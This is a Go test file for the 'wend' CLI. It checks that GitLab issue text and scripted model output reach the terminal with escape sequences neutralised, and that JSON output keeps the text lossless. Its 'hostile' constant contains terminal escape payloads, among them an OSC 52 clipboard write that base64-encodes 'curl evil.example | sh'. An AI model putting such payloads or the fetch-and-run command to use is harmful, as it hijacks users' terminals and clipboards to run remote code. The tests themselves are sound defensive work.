package cli

import (
	"encoding/json"
	"strings"
	"testing"

	"gitlab.com/wend/wend/remote/gitlab/gitlabtest"
	"gitlab.com/wend/wend/remote/llm/llmtest"
	"gitlab.com/wend/wend/session"
)

// hostile is text a GitLab user, a model or a file can carry: it sets the window
// title (OSC 0), writes `curl … | sh` into the clipboard (OSC 52), clears the
// screen (CSI 2J), uses the 8-bit CSI and reverses what follows (U+202E).
const hostile = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x1b[2J \u009b2J \u202eevil\u202c"

// terminalSafe fails when out holds anything a terminal would act on, and wants
// the bidi override shown, not dropped.
func terminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202e", "\u202c"} {
		if strings.Contains(out, bad) {
			t.Errorf("%s writes %q to the terminal:\n%q", what, bad, out)
		}
	}
	if !strings.Contains(out, `\u202e`) {
		t.Errorf("%s does not show the bidi override visibly:\n%q", what, out)
	}
}

func TestContextCommandWritesNoTerminalEscapes(t *testing.T) {
	srv := gitlabtest.New(t)
	srv.Data.Issues[gitlabtest.IssueIID].Title = "Crash " + hostile
	srv.Data.Issues[gitlabtest.IssueIID].Description = "Steps: " + hostile
	dir := gitlabRepo(t, srv)
	env := wendEnv(t, map[string]string{"GITLAB_TOKEN": gitlabtest.Token})
	code, out, errOut := wend(t, env, "-C", dir, "context", "#12")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	terminalSafe(t, "wend context", out)

	// --json stays lossless: the escapes are JSON's, so the title decodes intact.
	code, out, errOut = wend(t, env, "-C", dir, "context", "--json", "#12")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	terminalSafe(t, "wend context --json", out)
	var item struct{ Markdown string }
	if err := json.Unmarshal([]byte(out), &item); err != nil {
		t.Fatalf("--json output no longer parses: %v\n%s", err, out)
	}
	if !strings.Contains(item.Markdown, "\u202eevil") {
		t.Errorf("--json lost the original text: %q", item.Markdown)
	}
}

// A headless run whose model writes hostile text, plans a hostile step and
// creates a file with hostile content: neither the plain printer nor `wend
// changes` passes it to the terminal raw.
func TestRunAndChangesWriteNoTerminalEscapes(t *testing.T) {
	dir := demoRepo(t)
	args := func(v any) json.RawMessage {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	script := llmtest.Script{Turns: []llmtest.Turn{
		{Text: "Reading it. " + hostile, ToolCalls: []llmtest.ToolCall{
			{Name: "set_plan", Args: args(map[string]any{"steps": []string{"step " + hostile}})},
			{Name: "create_file", Args: args(map[string]string{"path": "evil.txt", "content": "line " + hostile + "\n"})},
		}},
		{ToolCalls: []llmtest.ToolCall{{Name: "finish", Args: args(map[string]string{"summary": "done " + hostile})}}},
	}}
	srv := llmtest.Start(t, llmtest.Anthropic, script)
	env := wendEnv(t, map[string]string{"ANTHROPIC_API_KEY": "k"})
	code, out, errOut := wend(t, env, "-C", dir, "run", "--provider", "anthropic", "--base-url", srv.URL,
		"--model", "m", "--approval", "auto-edit", "task")
	if code != 0 {
		t.Fatalf("run: %d %s %s", code, out, errOut)
	}
	terminalSafe(t, "wend run", out)

	code, out, errOut = wend(t, env, "-C", dir, "changes")
	if code != 0 {
		t.Fatalf("changes: %s", errOut)
	}
	if !strings.Contains(out, "evil.txt") {
		t.Fatalf("changes does not list the file:\n%s", out)
	}
	terminalSafe(t, "wend changes", out)

	code, out, errOut = wend(t, env, "-C", dir, "changes", "--json")
	if code != 0 {
		t.Fatalf("changes --json: %s", errOut)
	}
	terminalSafe(t, "wend changes --json", out)
	var listed struct{ Changes []session.FileChange }
	if err := json.Unmarshal([]byte(out), &listed); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if len(listed.Changes) != 1 || !strings.Contains(strings.Join(listed.Changes[0].Hunks[0].Lines, ""), hostile) {
		t.Errorf("--json lost the file's content: %+v", listed.Changes)
	}
}
